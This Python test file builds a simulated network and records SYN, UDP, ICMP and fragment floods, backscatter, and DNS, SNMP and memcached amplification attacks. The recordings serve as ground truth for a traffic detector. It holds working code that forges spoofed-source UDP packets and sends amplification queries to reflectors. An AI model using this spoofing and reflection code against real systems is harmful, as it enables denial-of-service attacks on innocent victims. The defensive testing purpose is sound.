# tests/scenario/floods.py - floods, what a telescope sees of them, and
# amplification by real servers.
import os
import socket
import struct
import time

import truth
from internet import INSIDE, LOCAL, OUTSIDE, Internet, nginx
from lab import eager
from scenario import Result, scenario

ATTACKER, SERVER, VICTIM = f"{OUTSIDE}.66", f"{INSIDE}.10", f"{INSIDE}.99"
COUNT = 3000
FORGED = 200  # packets that a scenario forges at most
ANY_VICTIM = {"initiator": None}


def town(lab, **options):
    """An attacker outside and a web server inside; answers to forged addresses
    end at the border, as the rest of the world would swallow them."""
    net = Internet(lab, **options)
    net.router.sysctl(ipv4__conf__all__rp_filter=0, ipv4__conf__eth0__rp_filter=0)
    if net.telescope:
        net.router.ip("route add default via 192.0.2.2")
    else:
        net.router.ip("route add blackhole default")
    attacker = net.outside("attacker", ATTACKER)
    server = net.inside("server", SERVER)
    return net, attacker, server


def hping(host, *args, count=COUNT, gap="u100"):
    """hping3 sends `count` packets; that nothing answers is no failure."""
    host.run(["hping3", "-n", "-q", "-i", gap, "-c", count, *args], check=False)


def flood(path, kind, match, protocol, victim=SERVER, port=None, **fields):
    counted = truth.count(path, f"ip.dst#1=={victim} && ({match}) && !(icmp.type==3)", port=port)
    return truth.finding(kind, counted, protocol=protocol, victim=victim, **fields)


def hping_flood(name, about, kind, match, protocol, *args, serve=True, port=None, **fields):
    tools = ("hping3", "nginx") if serve else ("hping3",)

    @scenario(name, *tools)
    def run(lab):
        net, attacker, server = town(lab)
        if serve:
            nginx(server)
        cap = net.router.capture(f"{name}.pcap", "eth1")
        hping(attacker, *args, SERVER)
        return Result([cap.stop()], [flood(cap.path, kind, match, protocol, port=port, **fields)],
                      local=LOCAL, about=about)

    return run


SYN = f"tcp.flags==0x002 && ip.dst#1=={SERVER}"
ONE = {"initiator": ATTACKER}
hping_flood("flood-syn", "hping3 -S from one address to a live web server", "flood.syn", SYN, "tcp",
            "-S", "-p", 80, port="tcp.dstport", **ONE)
hping_flood("flood-syn-forged", "hping3 -S --rand-source to a live web server", "flood.syn", SYN,
            "tcp", "-S", "-p", 80, "--rand-source", port="tcp.dstport", **ANY_VICTIM)
hping_flood("flood-syn-dead", "hping3 -S --rand-source to a port that is closed", "flood.syn", SYN,
            "tcp", "-S", "-p", 443, "--rand-source", serve=False, port="tcp.dstport", **ANY_VICTIM)
hping_flood("flood-udp", "hping3 --udp with 200 bytes to one closed port", "flood.udp", "udp",
            "udp", "--udp", "-p", 5060, "-k", "-d", 200, serve=False, port="udp.dstport", **ONE)
hping_flood("flood-udp-forged", "hping3 --udp --rand-source to one closed port", "flood.udp", "udp",
            "udp", "--udp", "-p", 5060, "-d", 64, "--rand-source", serve=False, port="udp.dstport",
            **ANY_VICTIM)
hping_flood("flood-icmp", "hping3 -1 to one host", "flood.icmp", "icmp.type==8", "icmp", "-1",
            "-d", 56, serve=False, **ONE)
hping_flood("flood-icmp-forged", "hping3 -1 --rand-source to one host", "flood.icmp",
            "icmp.type==8", "icmp", "-1", "-d", 56, "--rand-source", serve=False, **ANY_VICTIM)


@scenario("flood-fragment", "hping3")
def flood_fragment(lab):
    net, attacker, _ = town(lab)
    cap = net.router.capture("flood-fragment.pcap", "eth1")
    # First fragments whose rest never comes: the victim must keep each.
    hping(attacker, "--udp", "-p", 80, "-x", "-d", 100, SERVER)
    match = "ip.flags.mf==1 || ip.frag_offset>0"
    want = flood(cap.stop(), "flood.fragment", match, ["udp", "ip", None], **ONE)
    return Result([cap.path], [want], local=LOCAL,
                  about="hping3 -x: first fragments whose other parts never come")


@scenario("flood-fragment-pieces", "hping3")
def flood_fragment_pieces(lab):
    net, attacker, _ = town(lab)
    cap = net.router.capture("flood-fragment-pieces.pcap", "eth1")
    hping(attacker, "-1", "-f", "-d", 120, "--rand-source", SERVER, count=400, gap="u200")
    match = "ip.flags.mf==1 || ip.frag_offset>0"
    want = flood(cap.stop(), "flood.fragment", match, ["icmp", "ip", None], **ANY_VICTIM)
    return Result([cap.path], [want], [{"kind": "flood.icmp", "victim": SERVER}], LOCAL,
                  "hping3 -f --rand-source: every echo request in tiny fragments")


# ---- Backscatter ----------------------------------------------------------

# A telescope sees a share of the answers; this one owns a quarter of IPv4.
TELESCOPE = ["64.0.0.0/2"]


def backscatter(name, about, match, *args, serve=False, factor=1, protocol="tcp", count=COUNT):
    tools = ("hping3", "nginx") if serve else ("hping3",)

    @scenario(name, *tools)
    def run(lab):
        net, attacker, server = town(lab, dark=TELESCOPE[0])
        net.router.ip("route replace blackhole default")
        if serve:
            nginx(server)
        # The telescope is the vantage; the victim is somewhere else.
        cap = net.telescope.capture("seen.pcap")
        hping(attacker, *args, "--rand-source", SERVER, count=count)
        path = f"{lab.out}/{name}.pcap"
        truth.stretch(cap.stop(), path, factor)
        os.remove(cap.path)
        # Grouped by who answers: that is the victim.
        counted = truth.count(path, f"ip.src#1=={SERVER} && {match}")
        want = truth.finding("backscatter", counted, protocol=protocol, initiator=None,
                             victim=SERVER)
        return Result([path], [want], local=TELESCOPE, about=about)

    return run


backscatter("backscatter-syn-ack", "a telescope sees SYN-ACKs of a flooded web server, stretched "
            "to minutes", "tcp.flags==0x012", "-S", "-p", 80, serve=True, factor=60)
backscatter("backscatter-rst", "a telescope sees RSTs of a flooded closed port, stretched to "
            "minutes", "tcp.flags.reset==1", "-S", "-p", 443, factor=400)
backscatter("backscatter-icmp", "a telescope sees ICMP port unreachable of a flooded host, "
            "stretched to minutes", "icmp.type==3", "--udp", "-p", 5060, "-d", 32, factor=400,
            protocol=["icmp", "udp"])
backscatter("backscatter-echo", "a telescope sees echo replies of a flooded host, stretched to "
            "minutes", "icmp.type==0", "-1", "-d", 32, factor=400, protocol="icmp")
backscatter("backscatter-fast", "a telescope sees SYN-ACKs of a flooded web server for a few "
            "seconds", "tcp.flags==0x012", "-S", "-p", 80, serve=True)


# ---- Amplification --------------------------------------------------------


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_packet(source, target, sport, dport, payload, ident):
    """An IPv4 packet whose sender is whoever one says."""
    src, dst = socket.inet_aton(source), socket.inet_aton(target)
    head = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, 8 + len(payload))
    udp = head[:6] + struct.pack("!H", checksum(pseudo + head + payload) or 0xFFFF) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), ident, 0, 64, 17, 0, src, dst) + udp


def forge(host, reflectors, victim, dport, payload, count=FORGED):
    """Ask each reflector in turn, in the victim's name."""
    with host.net(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for i in range(count):
            to = reflectors[i % len(reflectors)]
            text = payload(i) if callable(payload) else payload
            s.sendto(udp_packet(victim, to, 20000 + i, dport, text, i + 1), (to, 0))
            time.sleep(0.001)  # slower than a reflector's socket fills up


def dns_query(name, qtype, ident, size=4096):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p)
    edns = b"\0" + struct.pack("!HHIH", 41, size, 0, 0)
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 1) + labels + b"\0" + \
        struct.pack("!HH", qtype, 1) + edns


UNBOUND = """
server:
  directory: "{dir}"
  chroot: ""
  username: ""
  pidfile: ""
  interface: 0.0.0.0
  access-control: 0.0.0.0/0 allow
  do-daemonize: no
  use-syslog: no
  module-config: "iterator"
  deny-any: no
  max-udp-size: {size}
  edns-buffer-size: {size}
  do-not-query-localhost: no
  local-zone: "big.example." static
{records}
remote-control:
  control-enable: no
"""


def resolver(host, records, size=4096, zone=""):
    """An open resolver with a large answer for big.example."""
    data = "".join(f"  local-data: 'big.example. TXT \"{chr(97 + i % 26) * 200}{i}\"'\n"
                   for i in range(records))
    host.write("unbound.conf", UNBOUND.format(dir=host.dir, size=size, records=data + zone))
    host.serve(["unbound", "-d", "-c", f"{host.dir}/unbound.conf"], 53, proto="udp")


def amplified(path, match, protocol="udp", victim=VICTIM):
    """Answers to a victim that did not ask."""
    counted = truth.count(path, f"ip.dst#1=={victim} && {match}", source="ip.src")
    return truth.finding("flood.amplification", counted, protocol=protocol, initiator=None,
                         victim=victim)


def reflected(name, where, records, about):
    """Forged questions to eight resolvers, seen by the victim or by a reflector."""

    @scenario(name, "unbound")
    def run(lab):
        net = Internet(lab)
        for dev in ("all", "eth0", "eth1"):
            net.router.sysctl(**{f"ipv4__conf__{dev}__rp_filter": 0})
        attacker = net.outside("attacker", ATTACKER)
        reflectors = [f"{OUTSIDE}.{120 + i}" for i in range(8 if where == "victim" else 1)]
        open_resolver = net.outside("resolver", *reflectors)
        resolver(open_resolver, records)
        victim = net.inside("victim", VICTIM)
        cap = (victim if where == "victim" else open_resolver).capture(f"{name}.pcap")
        forge(attacker, reflectors, VICTIM, 53,
              lambda i: dns_query("big.example", 16, i), 2 * FORGED)
        # Later fragments have no ports: only what names the service is counted.
        want = amplified(cap.stop(), "udp.srcport==53 && !(icmp.type==3)")
        if records > 6:
            want["packets"] = None  # counting fragments or datagrams are both right
        accept = [{"kind": "flood.fragment", "victim": VICTIM}]
        local = LOCAL if where == "victim" else [f"{OUTSIDE}.0/24"]
        return Result([cap.path], [want], accept, local, about)

    return run


reflected("amplification-dns", "victim", 6,
          "eight real resolvers answer forged TXT questions, seen by the victim")
reflected("amplification-dns-fragments", "victim", 18,
          "answers of 3.6 KB in fragments, seen by the victim")
reflected("amplification-dns-reflector", "reflector", 6,
          "one real resolver answers forged TXT questions, seen at the resolver")


def snmp_agent(host):
    host.write("snmpd.conf", "agentAddress udp:161\nrocommunity public\n")
    host.serve(["snmpd", "-f", "-Lo", "-C", "-c", f"{host.dir}/snmpd.conf", "-p", "/run/s.pid"],
               161, proto="udp")


def snmp_reflected(name, where, agents, count, about):
    """Forged GetBulk requests, seen by the victim or by the agent."""

    @scenario(name, "snmpd", group="services", root=True)
    def run(lab):
        net = Internet(lab)
        for dev in ("all", "eth0", "eth1"):
            net.router.sysctl(**{f"ipv4__conf__{dev}__rp_filter": 0})
        attacker = net.outside("attacker", ATTACKER)
        reflectors = [f"{OUTSIDE}.{120 + i}" for i in range(agents)]
        agent = net.outside("agent", *reflectors)
        snmp_agent(agent)
        victim = net.inside("victim", VICTIM)
        cap = (victim if where == "victim" else agent).capture(f"{name}.pcap")
        forge(attacker, reflectors, VICTIM, 161, SNMP_BULK, count)
        want = amplified(cap.stop(timeout=20), "udp.srcport==161 && !(icmp.type==3)")
        local = LOCAL if where == "victim" else [f"{OUTSIDE}.0/24"]
        return Result([cap.path], [want], [{"kind": "flood.fragment", "victim": VICTIM}], local,
                      about)

    return run


# SNMPv2c GetBulk (RFC 3416, 4.2.3) of 1.3.6.1.2.1 with 20 repetitions, community "public".
SNMP_BULK = bytes.fromhex("3023 020101 04067075626c6963 a516 020101 020100 020114"
                          "300b 3009 06052b06010201 0500")


snmp_reflected("amplification-snmp", "victim", 4, FORGED,
               "four SNMP agents answer forged GetBulk requests")
snmp_reflected("amplification-snmp-reflector", "reflector", 1, FORGED,
               "one SNMP agent answers forged GetBulk requests, seen at the agent")


@scenario("quiet-snmp-walk", "snmpd", "snmpbulkwalk", group="services", root=True)
def quiet_snmp_walk(lab):
    """Monitoring that walks through all that an agent has: long answers, and many a second."""
    net = Internet(lab)
    agent = net.outside("agent", f"{OUTSIDE}.120")
    snmp_agent(agent)
    monitor = net.inside("monitor", f"{INSIDE}.12")
    cap = agent.capture("quiet-snmp-walk.pcap")
    for _ in range(4):
        monitor.run(["snmpbulkwalk", "-v2c", "-c", "public", "-Cr20", "-On", f"{OUTSIDE}.120",
                     "1.3.6.1"], timeout=60)
    cap.stop()
    return Result([cap.path], [], local=[f"{OUTSIDE}.0/24"],
                  about="a monitoring host walks through an SNMP agent four times")


@scenario("quiet-dns-long", "unbound")
def quiet_dns_long(lab):
    """A resolver whose clients ask for long answers, each for another name."""
    net = Internet(lab)
    server = net.outside("resolver", f"{OUTSIDE}.120")
    names = [f"n{i}.big.example." for i in range(300)]
    text = chr(97) * 200
    resolver(server, 0, zone="".join(f"  local-data: '{n} TXT \"{text}\" \"{text}\" \"{text}\"'\n"
                                     for n in names))
    client = net.inside("client", f"{INSIDE}.12")
    cap = server.capture("quiet-dns-long.pcap")
    with client.net(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        for i, name in enumerate(names):
            s.sendto(dns_query(name, 16, i), (f"{OUTSIDE}.120", 53))
            s.recv(4096)
    cap.stop()
    return Result([cap.path], [], local=[f"{OUTSIDE}.0/24"],
                  about="300 different names with long texts, asked for at once")


def memcached_reflected(name, where, about):
    """Forged stats commands, seen by the victim or by the memcached."""

    @scenario(name, "memcached", group="services")
    def run(lab):
        net = Internet(lab)
        for dev in ("all", "eth0", "eth1"):
            net.router.sysctl(**{f"ipv4__conf__{dev}__rp_filter": 0})
        attacker = net.outside("attacker", ATTACKER)
        cache_at = f"{OUTSIDE}.120"
        cache = net.outside("cache", cache_at)
        cache.serve(["memcached", "-u", "root", "-U", "11211", "-l", "0.0.0.0"], 11211, proto="udp")
        eager(cache)
        victim = net.inside("victim", VICTIM)
        cap = (victim if where == "victim" else cache).capture(f"{name}.pcap")
        # The UDP frame header (request id, 0, 1 datagram, 0), then a text command.
        forge(attacker, [cache_at], VICTIM, 11211,
              lambda i: struct.pack("!HHHH", i, 0, 1, 0) + b"stats\r\n")
        want = amplified(cap.stop(), "udp.srcport==11211 && !(icmp.type==3)")
        local = LOCAL if where == "victim" else [f"{OUTSIDE}.0/24"]
        return Result([cap.path], [want], local=local, about=about)

    return run


memcached_reflected("amplification-memcached", "victim", "a memcached answers forged stats commands")
memcached_reflected("amplification-memcached-reflector", "reflector",
                    "a memcached answers forged stats commands, seen at the memcached")
